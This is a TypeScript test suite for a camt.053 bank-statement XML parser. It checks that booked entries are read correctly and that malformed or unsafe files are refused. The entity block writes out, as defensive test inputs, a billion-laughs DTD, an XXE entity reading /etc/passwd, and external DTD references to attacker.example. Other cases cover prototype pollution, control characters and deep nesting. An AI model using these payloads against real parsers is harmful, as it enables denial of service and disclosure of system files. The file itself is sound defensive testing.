import { describe, expect, it } from 'vitest';
import { validateXML } from 'xmllint-wasm';
import { parseCamt053 } from './parseCamt053.js';
import { MAX_XML_LENGTH } from './xmlElement.js';
import { readFixture } from '../../../test/fixtures/domain/vectors.js';
import { describeWithVectors, readVector } from '../../../test/support/vectors.js';

const v08 = readFixture('camt053-v08-multi-entry.xml');
const v02 = readFixture('camt053-v02-two-entries.xml');

/** The V08 fixture with one exact piece replaced (the piece must be there, or the test proves nothing). */
function changed(from: string | RegExp, to: string): string {
  expect(v08).toMatch(from);
  return v08.replace(from, to);
}

describe('parseCamt053', () => {
  describe('when the file is a realistic V08 statement', () => {
    // The published schema is in ../shared/vectors (see its README); skipped with a notice where absent.
    describeWithVectors('the published camt.053.001.08 schema', () => {
      it('accepts the fixture itself', async () => {
        const result = await validateXML({
          xml: { fileName: 'camt053-v08-multi-entry.xml', contents: v08 },
          schema: { fileName: 'camt.053.001.08.xsd', contents: readVector('iso20022/camt.053.001.08.xsd') },
        });
        expect(result.errors).toEqual([]);
      });
    });

    it('reads the account, currency and every booked entry with signed amounts', () => {
      const [statement, ...rest] = parseCamt053(v08);
      expect(rest).toEqual([]);
      expect(statement).toMatchObject({ statementId: '2025-03-03-DE89370400440532013000', accountIban: 'DE89370400440532013000', currency: 'EUR' });
      expect(statement?.entries).toEqual([
        {
          entryRef: '2025030300117843', bookingDate: '2025-03-03', valueDate: '2025-03-03', amountMinor: 1_250_000, currency: 'EUR',
          counterpartyName: 'Müller & Söhne GmbH', counterpartyIban: 'AT611904300234573201', remittanceInfo: 'Rechnung RE-2025-0042 vom 14.02.2025',
        },
        {
          entryRef: '2025030300118002', bookingDate: '2025-03-03', valueDate: '2025-03-03', amountMinor: -123_456, currency: 'EUR',
          counterpartyName: 'Société Générale', counterpartyIban: 'FR1420041010050500013M02606', remittanceInfo: 'Invoice 2025-001 "Q1"',
        },
        {
          entryRef: '2025030300118003', bookingDate: '2025-03-03', valueDate: '2025-03-03', amountMinor: -750, currency: 'EUR',
          counterpartyName: null, counterpartyIban: null, remittanceInfo: 'Kontoführungsgebühr Februar 2025',
        },
        {
          entryRef: '2025030300118004', bookingDate: '2025-03-03', valueDate: '2025-03-04', amountMinor: 98_000, currency: 'EUR',
          counterpartyName: "O'Neil & Partners Ltd.", counterpartyIban: 'GB29NWBK60161331926819', remittanceInfo: 'RF18539007547034',
        },
        {
          entryRef: '2025030300118005', bookingDate: '2025-03-03', valueDate: '2025-03-03', amountMinor: -500_000, currency: 'EUR',
          counterpartyName: null, counterpartyIban: null, remittanceInfo: 'SEPA-Sammelüberweisung 2 Posten',
        },
      ]);
    });

    it('falls back to NtryRef when the bank gives no AcctSvcrRef', () => {
      const [statement] = parseCamt053(changed('<AcctSvcrRef>2025030300117843</AcctSvcrRef>', ''));
      expect(statement?.entries[0]?.entryRef).toBe('1');
    });

    it('reads a document whose elements carry a namespace prefix', () => {
      const prefixed = v08
        .replace(/<(\/?)([A-Za-z]+)([ >])/g, '<$1c:$2$3')
        .replace('xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"', 'xmlns:c="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"');
      expect(parseCamt053(prefixed)).toEqual(parseCamt053(v08));
    });
  });

  describe('when the file is a V02 statement', () => {
    it('reads it, skipping the pending entry', () => {
      expect(parseCamt053(v02)).toEqual([
        {
          statementId: 'CH9300762011623852957-2025-03-04', accountIban: 'CH9300762011623852957', currency: 'CHF',
          entries: [{
            entryRef: 'ZKB-7781-0001', bookingDate: '2025-03-04', valueDate: '2025-03-04', amountMinor: 25_005, currency: 'CHF',
            counterpartyName: 'Zürcher Velo AG', counterpartyIban: 'CH9300762011623852957', remittanceInfo: 'Rechnung 2025/117',
          }],
        },
      ]);
    });
  });

  describe('when the file declares entities (billion laughs, XXE)', () => {
    const lol = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>';
    it.each([
      ['a billion-laughs DTD', changed('<Document', `${lol}<Document`).replace('<Id>2025-03-03-DE89370400440532013000</Id>', '<Id>&lol3;</Id>')],
      ['an external entity', changed('<Document', '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Document').replace('<MsgId>STMT-20250304-000731</MsgId>', '<MsgId>&xxe;</MsgId>')],
      ['a parameter entity', changed('<Document', '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><Document')],
      ['an external DTD', changed('<Document', '<!DOCTYPE Document SYSTEM "http://attacker.example/camt.dtd"><Document')],
      ['a lower-case doctype', changed('<Document', '<!doctype Document><Document')],
      ['a bare ENTITY declaration', changed('<Document', '<!ENTITY x "y"><Document')],
    ])('refuses %s with DOMAIN_UNSAFE_XML', async (_, xml) => {
      await expect(() => parseCamt053(xml)).toThrowCode('DOMAIN_UNSAFE_XML');
    });
  });

  describe('when the file is not a camt.053 statement Coffer can trust', () => {
    it.each([
      ['another namespace (camt.052)', changed('camt.053.001.08"', 'camt.052.001.08"'), 'namespace'],
      ['no namespace', changed(' xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"', ''), 'namespace'],
      ['a foreign namespace inside', changed('<Ntry>', '<Ntry xmlns="urn:attacker">'), 'namespace'],
      ['another root element', changed(/<(\/?)Document>/g, '<$1Doc>').replace('<Document ', '<Doc '), 'root'],
      ['malformed XML', changed('</Stmt>', '</Stmnt>'), 'line'],
      ['two roots', `${v08}<Document/>`, 'root'],
      ['two different roots', `${v08}<Other></Other>`, 'root'],
      ['an amount beyond the limit', changed('<Amt Ccy="EUR">12500.00</Amt>', '<Amt Ccy="EUR">99999999999999999999.99</Amt>'), 'Stmt[0]/Ntry[0]/Amt'],
      ['an amount with an exponent', changed('<Amt Ccy="EUR">1234.56</Amt>', '<Amt Ccy="EUR">1e308</Amt>'), 'Stmt[0]/Ntry[1]/Amt'],
      ['a negative amount', changed('<Amt Ccy="EUR">7.50</Amt>', '<Amt Ccy="EUR">-7.50</Amt>'), 'Stmt[0]/Ntry[2]/Amt'],
      ['too many decimals', changed('<Amt Ccy="EUR">7.50</Amt>', '<Amt Ccy="EUR">7.505</Amt>'), 'Stmt[0]/Ntry[2]/Amt'],
      ['an unknown currency', changed('<Amt Ccy="EUR">7.50</Amt>', '<Amt Ccy="XTS">7.50</Amt>'), 'Stmt[0]/Ntry[2]/Amt'],
      ['a missing amount', changed('<Amt Ccy="EUR">1234.56</Amt>\n        <CdtDbtInd>DBIT', '<CdtDbtInd>DBIT'), 'Document/BkToCstmrStmt/Stmt[0]/Ntry[1]/Amt'],
      ['a missing account IBAN', changed('<IBAN>DE89370400440532013000</IBAN>', ''), 'Document/BkToCstmrStmt/Stmt[0]/Acct/Id/IBAN'],
      ['a missing reference', changed('<NtryRef>3</NtryRef>', '').replace('<AcctSvcrRef>2025030300118003</AcctSvcrRef>', ''), 'Stmt[0]/Ntry[2]/AcctSvcrRef'],
      ['a missing booking date', changed(/<BookgDt>\s*<DtTm>2025-03-03T14:05:00\+01:00<\/DtTm>\s*<\/BookgDt>/, ''), 'Stmt[0]/Ntry[3]/BookgDt'],
      ['a wrong credit/debit code', changed('<CdtDbtInd>CRDT</CdtDbtInd>\n        <Sts>', '<CdtDbtInd>BOTH</CdtDbtInd>\n        <Sts>'), 'Stmt[0]/Ntry[0]/CdtDbtInd'],
      ['an invalid counterparty IBAN', changed('<IBAN>AT611904300234573201</IBAN>', '<IBAN>AT611904300234573202</IBAN>'), 'Stmt[0]/Ntry[0]/NtryDtls[0]/TxDtls[0]/RltdPties/DbtrAcct/Id/IBAN'],
      ['a right-to-left override in a name', changed('Société Générale', 'Soci&#x202E;etnaM'), 'Stmt[0]/Ntry[1] counterpartyName'],
      ['a raw control character in remittance', changed('SEPA-Sammelüberweisung 2 Posten', 'x\u001b[2J\u0007'), 'Stmt[0]/Ntry[4] remittanceInfo'],
      ['an impossible date', changed('<Dt>2025-03-04</Dt>', '<Dt>2025-02-30</Dt>'), 'Stmt[0]/Ntry[3] valueDate'],
      ['a repeated amount', changed('<Amt Ccy="EUR">7.50</Amt>', '<Amt Ccy="EUR">7.50</Amt><Amt Ccy="EUR">0.01</Amt>'), 'Stmt[0]/Ntry[2]/Amt'],
      ['no statement', changed(/<Stmt>[\s\S]*<\/Stmt>/, ''), 'BkToCstmrStmt/Stmt'],
    ])('refuses %s with DOMAIN_BAD_STATEMENT naming where', async (_, xml, where) => {
      await expect(() => parseCamt053(xml)).toThrowCode('DOMAIN_BAD_STATEMENT');
      expect(() => parseCamt053(xml)).toThrow(where);
    });

    it('drops control characters written as character references instead of keeping them', () => {
      const [statement] = parseCamt053(changed('SEPA-Sammelüberweisung 2 Posten', 'Sammel&#x1B;[2J&#x7;überweisung'));
      expect(statement?.entries[4]?.remittanceInfo).toBe('Sammel[2Jüberweisung');
    });

    it('refuses nesting deeper than any statement with DOMAIN_BAD_STATEMENT', async () => {
      const deep = changed('<AddtlNtryInf>Kontoführungsgebühr', `${'<x>'.repeat(5000)}${'</x>'.repeat(5000)}<AddtlNtryInf>Kontoführungsgebühr`);
      await expect(() => parseCamt053(deep)).toThrowCode('DOMAIN_BAD_STATEMENT');
    });

    it('refuses a __proto__ element without polluting objects', async () => {
      const polluted = changed('<AddtlNtryInf>Kontoführungsgebühr', '<__proto__><polluted>yes</polluted></__proto__><AddtlNtryInf>Kontoführungsgebühr');
      await expect(() => parseCamt053(polluted)).toThrowCode('DOMAIN_BAD_STATEMENT');
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });

    it('refuses a file above the size limit with DOMAIN_BAD_STATEMENT', async () => {
      await expect(() => parseCamt053(' '.repeat(MAX_XML_LENGTH + 1))).toThrowCode('DOMAIN_BAD_STATEMENT');
    });
  });
});
